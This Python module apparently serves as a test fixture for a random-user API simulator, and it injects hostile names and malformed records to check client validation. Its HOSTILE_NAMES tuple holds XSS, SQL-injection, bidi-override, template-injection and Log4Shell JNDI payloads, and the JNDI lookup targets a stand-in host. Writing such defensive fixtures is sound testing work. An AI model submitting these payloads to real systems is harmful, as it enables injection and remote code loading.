"""Payload faults: hostile names and malformed users inside a valid envelope."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Callable

    from randomuser_sim.generator import User

# (first, last) pairs given to the first users, in order. The Persian pair is a
# legitimate name: validation must keep it while it rejects or escapes the rest.
HOSTILE_NAMES: Final = (
    ("<img src=x onerror=alert(1)>", "<script>alert(1)</script>"),
    ("آرمین", "صدر"),
    ('"; DROP TABLE users;--', "Robert'); DROP TABLE students;--"),
    ("\u202eevil\u202c", "Smith\u202e\u200f"),
    ("A" * 300, "Long"),
    ("{{7*7}}", "${jndi:ldap://example.com/a}"),
    ("Zoë 👩\u200d💻", "  padded  "),
)


def hostile(users: list[User]) -> list[User]:
    """The same users with the first ones renamed to `HOSTILE_NAMES`, in order."""
    out = list(users)
    for index, (first, last) in enumerate(HOSTILE_NAMES[: len(out)]):
        user = out[index]
        if isinstance(user.get("name"), dict):
            out[index] = {
                **user,
                "name": {**user["name"], "first": first, "last": last},
            }
    return out


def _without_email(user: User) -> User:
    return {key: value for key, value in user.items() if key != "email"}


def _gender_other(user: User) -> User:
    return {**user, "gender": "other"}


def _gender_number(user: User) -> User:
    return {**user, "gender": 7}


def _name_null(user: User) -> User:
    return {**user, "name": None}


def _without_country(user: User) -> User:
    location = {k: v for k, v in user.get("location", {}).items() if k != "country"}
    return {**user, "location": location}


def _postcode_flipped(user: User) -> User:
    # Numbers become strings and strings numbers: the types a client must not assume.
    location = dict(user.get("location", {}))
    postcode = location.get("postcode")
    if isinstance(postcode, int):
        location["postcode"] = str(postcode)
    else:
        location["postcode"] = int(
            "".join(c for c in str(postcode) if c.isdigit()) or 0
        )
    return {**user, "location": location}


# One breakage per user, applied to the first users in this order.
BREAKAGES: Final[tuple[Callable[[User], User], ...]] = (
    _without_email,
    _gender_other,
    _gender_number,
    _name_null,
    _without_country,
    _postcode_flipped,
)


def malformed(users: list[User]) -> list[User]:
    """The same users with the first ones each broken in one way (`BREAKAGES`)."""
    out = list(users)
    for index, breakage in enumerate(BREAKAGES[: len(out)]):
        out[index] = breakage(out[index])
    return out
